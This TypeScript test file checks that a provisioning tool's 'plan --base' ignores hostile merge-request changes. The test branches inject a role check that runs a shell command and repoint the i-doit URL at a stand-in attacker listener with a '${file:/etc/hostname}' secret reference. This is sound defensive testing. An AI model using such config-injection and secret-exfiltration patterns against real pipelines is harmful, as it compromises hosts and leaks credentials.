/**
 * A merge request cannot reach production through `plan --base`: attacks a user with push rights to a
 * branch would try, each against real daemons — an sshd "host" that records every command it is asked
 * to run, the i-doit emulator, and a listener standing in for the attacker's server.
 *  - a branch changes a role's `check:` (and adds a role) → nothing of it runs on the host during plan;
 *  - a branch points the i-doit URL (ipam.url, cmdb.url) at its own listener with `${file:/etc/…}` → no connection there, the plan
 *    says the change is not used, and validation names the reference.
 * And the plan is the one the run on merge (`apply --changed-since`) makes: a system the branch does not
 * touch takes no address from a net with one left.
 */
import { execFileSync } from 'node:child_process';
import { copyFileSync, existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { startIdoitEmulator, type IdoitEmulator } from '../../src/lab/idoit';
import { removeDir, tempDir } from '../helpers/daemon';
import { runCli } from '../helpers/cli';
import { startSshdHosts, type TestHosts } from '../helpers/sshd-hosts';

let hosts: TestHosts;
let emu: IdoitEmulator;
let listener: Server;
let listenerPort: number;
let attackerConnections = 0;
let work: string;
let repo: string;
let state: string;

const git = (...args: string[]) =>
  execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.com', ...args], {
    cwd: repo,
    encoding: 'utf8',
  });
const write = (rel: string, text: string) => {
  mkdirSync(join(repo, rel, '..'), { recursive: true });
  writeFileSync(join(repo, rel), text);
};
const role = (check: string) =>
  `apiVersion: shipshape.dev/v1\nkind: Role\nmetadata: { name: web }\nspec:\n  steps:\n    - { name: nothing, script: "true" }\n  check: ${JSON.stringify(check)}\n`;
const system = (labels: string) =>
  `apiVersion: shipshape.dev/v1\nkind: System\nmetadata: { name: host-a, labels: ${labels} }\nspec:\n  cpu: 1\n  memoryMiB: 512\n  disks: [{ sizeGiB: 10 }]\n  os: debian12\n  network: { net: lo-net, ip: 127.0.0.2 }\n  roles: [web]\n`;
const site = (idoitUrl: string, apiKey: string) =>
  [
    'apiVersion: shipshape.dev/v1',
    'kind: Site',
    'spec:',
    '  lab: true',
    '  nets:',
    '    lo-net: { cidr: 127.0.0.0/24, gateway: 127.0.0.1, domain: lab.example.test }',
    `  ipam: { backend: idoit, url: "${idoitUrl}", apiKey: "${apiKey}" }`,
    `  cmdb: { backend: idoit, url: "${idoitUrl}", apiKey: "${apiKey}" }`,
    '  specialise:',
    '    user: root',
    `    port: ${hosts.port}`,
    '    privateKey: ${file:secrets/ssh_key}',
    '    knownHosts: known_hosts',
    `    rootPrefix: ${join(work, 'targets')}/{system}`,
    '    connectTimeoutSeconds: 5',
    '    commandTimeoutSeconds: 30',
    '',
  ].join('\n');

beforeAll(async () => {
  work = tempDir('plan-base');
  repo = join(work, 'repo');
  state = join(work, 'state');
  mkdirSync(repo);
  hosts = await startSshdHosts(['127.0.0.2'], { recordCommands: true });
  emu = await startIdoitEmulator({
    stateFile: join(work, 'idoit.json'),
    apiKey: 'lab-key',
    nets: [
      { title: 'lo-net', cidr: '127.0.0.0/24', gateway: '127.0.0.1' },
      { title: 'one-net', cidr: '127.0.1.0/30', gateway: '127.0.1.1' },
    ],
  });
  process.env.SHIPSHAPE_TEST_IDOIT_KEY = 'lab-key';
  listener = createServer((s) => {
    attackerConnections++;
    s.destroy();
  });
  await new Promise<void>((r) => listener.listen(0, '127.0.0.1', () => r()));
  listenerPort = (listener.address() as { port: number }).port;

  git('init', '-q', '-b', 'main');
  write('.gitignore', 'secrets/\n');
  mkdirSync(join(repo, 'secrets'));
  copyFileSync(hosts.clientKeyPath, join(repo, 'secrets', 'ssh_key')); // as the CI job writes it: untracked
  write('known_hosts', `[127.0.0.2]:${hosts.port} ${hosts.hosts[0]!.hostPub}\n`);
  write('shipshape.yaml', site(emu.endpoint, '${env:SHIPSHAPE_TEST_IDOIT_KEY}'));
  write(
    'os/debian12/os.yaml',
    'apiVersion: shipshape.dev/v1\nkind: OperatingSystem\nmetadata: { name: debian12 }\nspec: { family: debian, installer: preseed, release: "12", boot: { kernel: linux, initrd: initrd.gz }, answerFile: preseed.cfg.tpl }\n',
  );
  write('os/debian12/preseed.cfg.tpl', 'd-i debian-installer/locale string en_US.UTF-8\n');
  write('roles/web/role.yaml', role('true'));
  write('systems/host-a.yaml', system('{ env: dev }'));
  git('add', '-A');
  git('commit', '-qm', 'base');
});

afterAll(async () => {
  delete process.env.SHIPSHAPE_TEST_IDOIT_KEY;
  await new Promise((r) => listener?.close(r));
  await emu?.close();
  await hosts?.stop();
  if (hosts) removeDir(hosts.dir);
  if (work) removeDir(work);
});

describe('a branch that changes a role check: nothing runs on the host during plan', () => {
  const pwned = () => join(work, 'pwned');
  const hostile = () => `touch ${pwned()}`;

  beforeAll(() => {
    git('checkout', '-qb', 'hostile-check', 'main');
    write('roles/web/role.yaml', role(hostile()));
    write('roles/evil/role.yaml', role(hostile()).replace('name: web', 'name: evil'));
    write('systems/host-a.yaml', system('{ env: dev, team: shop }'));
    git('add', '-A');
    git('commit', '-qm', 'hostile check');
  });

  it('plan --base reads the role record only, runs no check, and lists the role changes as not used', async () => {
    const before = hosts.commands().length;
    const r = await runCli(['--state-dir', state, 'plan', '-C', repo, '--base', 'main']);
    expect(r.err).not.toMatch(/^error/m);
    expect(r.code).toBe(0);
    expect(existsSync(pwned())).toBe(false);
    const ran = hosts.commands().slice(before);
    expect(ran.length).toBe(1); // one session to host-a: the record read
    // …and it is exactly "print the record file": no check, no step, nothing else.
    expect(ran[0]).toMatch(
      /^f='[^']*\/host-a\/var\/lib\/shipshape\/roles\.json'\necho (@@\S+) record\nif \[ -e "\$f" \]; then cat "\$f"; fi\necho; echo \1 end$/,
    );
    expect(ran.join('\n')).not.toContain('pwned');
    expect(ran.join('\n')).not.toContain('/bin/sh -c');
    expect(r.out).toMatch(
      /^read-only plan \(--read-only\): observed by reading only, nothing ran on a managed host; site config, roles and OS catalog from main \([0-9a-f]{12}\)/m,
    );
    expect(r.out).toContain(
      'changes to trusted files, not used for this plan; applied only after merge:\n  ~ roles/evil/role.yaml (added, +7 -0)\n  ~ roles/web/role.yaml (modified, +1 -1)\n',
    );
    expect(r.out).toContain('host-a');
  });

  it('the same branch planned without --base would have run the hostile check (what the test guards against)', async () => {
    const r = await runCli(['--state-dir', state, 'plan', '-C', repo]);
    expect(r.code).toBe(0);
    expect(existsSync(pwned())).toBe(true);
    removeDir(pwned());
  });

  it('--read-only alone runs no check either, and apply refuses a read-only plan', async () => {
    const planFile = join(work, 'ro.json');
    const r = await runCli([
      '--state-dir',
      state,
      'plan',
      '-C',
      repo,
      '--read-only',
      '--format',
      'json',
      '--out',
      planFile,
    ]);
    expect(r.code).toBe(0);
    expect(existsSync(pwned())).toBe(false);
    const a = await runCli(['--state-dir', state, 'apply', '-C', repo, planFile]);
    expect(a.code).toBe(1);
    expect(a.err).toContain('is a read-only review plan');
  });
});

describe('a branch that adds a role with a hostile check and a system that uses it', () => {
  const pwned = () => join(work, 'pwned-new-role');

  beforeAll(() => {
    git('checkout', '-qb', 'hostile-role', 'main');
    write('roles/evil/role.yaml', role(`touch ${pwned()}`).replace('name: web', 'name: evil'));
    write('systems/host-a.yaml', system('{ env: dev }').replace('roles: [web]', 'roles: [web, evil]'));
    git('add', '-A');
    git('commit', '-qm', 'hostile role');
  });

  it('plan --base refuses before observing: the role is not in the base; nothing reaches the host', async () => {
    const before = hosts.commands().length;
    const r = await runCli(['--state-dir', state, 'plan', '-C', repo, '--base', 'main']);
    expect(r.code).toBe(1);
    expect(r.err).toMatch(/^systems\/host-a\.yaml:\d+:\d+: error: .*evil/m);
    expect(r.err).toContain(
      'the merge-request repo (site config, roles and OS catalog from main; systems/ and profiles/ from the branch)',
    );
    expect(r.err).toContain(
      'A system that needs a role or OS entry the branch adds can be planned once that change is merged.',
    );
    expect(hosts.commands().length).toBe(before);
    expect(existsSync(pwned())).toBe(false);
  });
});

describe('a branch that points the i-doit url at its own listener with ${file:/etc/…}', () => {
  beforeAll(() => {
    git('checkout', '-qb', 'exfiltrate', 'main');
    write('shipshape.yaml', site(`http://127.0.0.1:${listenerPort}/src/jsonrpc.php`, '${file:/etc/hostname}'));
    git('add', '-A');
    git('commit', '-qm', 'exfiltrate');
  });

  it('plan --base connects only where the base site config says, and says the change is not used', async () => {
    attackerConnections = 0;
    emu.resetStats();
    const r = await runCli(['--state-dir', state, 'plan', '-C', repo, '--base', 'main', '--format', 'markdown']);
    expect(r.err).not.toMatch(/^error/m);
    expect(r.code).toBe(0);
    expect(attackerConnections).toBe(0);
    expect(emu.stats().httpRequests).toBeGreaterThan(0); // the base's i-doit was observed
    expect(r.out).toContain(
      '#### Changes to trusted files, not used for this plan; applied only after merge\n\n- `shipshape.yaml (modified, +2 -2)`',
    );
  });

  it('validate on the branch names the reference outside the secrets folder', async () => {
    const r = await runCli(['validate', repo]);
    expect(r.code).toBe(1);
    expect(r.err).toMatch(
      /^shipshape\.yaml:[78]:\d+: error: secret reference \$\{file:\/etc\/hostname\} is outside the secrets folders \(secrets\/\)/m,
    );
  });
});

describe('a branch adding a system to a net with one free address', () => {
  beforeAll(() => {
    // one-net: .1 the gateway, .2 free. `a-waits` (first by name) asks there too, untouched by the branch.
    git('checkout', '-qb', 'one-net-base', 'main');
    write(
      'shipshape.yaml',
      site(emu.endpoint, '${env:SHIPSHAPE_TEST_IDOIT_KEY}').replace(
        '  ipam:',
        '    one-net: { cidr: 127.0.1.0/30, gateway: 127.0.1.1, domain: one.example.test }\n  ipam:',
      ),
    );
    const inOneNet = (name: string) =>
      `apiVersion: shipshape.dev/v1\nkind: System\nmetadata: { name: ${name} }\nspec:\n  cpu: 1\n  memoryMiB: 512\n  disks: [{ sizeGiB: 10 }]\n  os: debian12\n  network: { net: one-net }\n`;
    write('systems/a-waits.yaml', inOneNet('a-waits'));
    git('add', '-A');
    git('commit', '-qm', 'one-net');
    git('checkout', '-qb', 'one-net-branch');
    write('systems/b-new.yaml', inOneNet('b-new'));
    git('add', '-A');
    git('commit', '-qm', 'b-new');
  });

  it('plan --base gives it the address: the run on merge applies the touched systems only', async () => {
    const r = await runCli(['--state-dir', state, 'plan', '-C', repo, '--base', 'one-net-base', '--format', 'json']);
    expect(r.err).not.toMatch(/^error/m);
    const plan = JSON.parse(r.out) as { actions: { system: string; kind: string; action: string; blocked?: string }[] };
    expect(plan.actions.filter((a) => a.kind === 'ip').map((a) => [a.system, a.action, a.blocked ?? ''])).toEqual([
      ['b-new', 'create', ''],
    ]);
  });
});
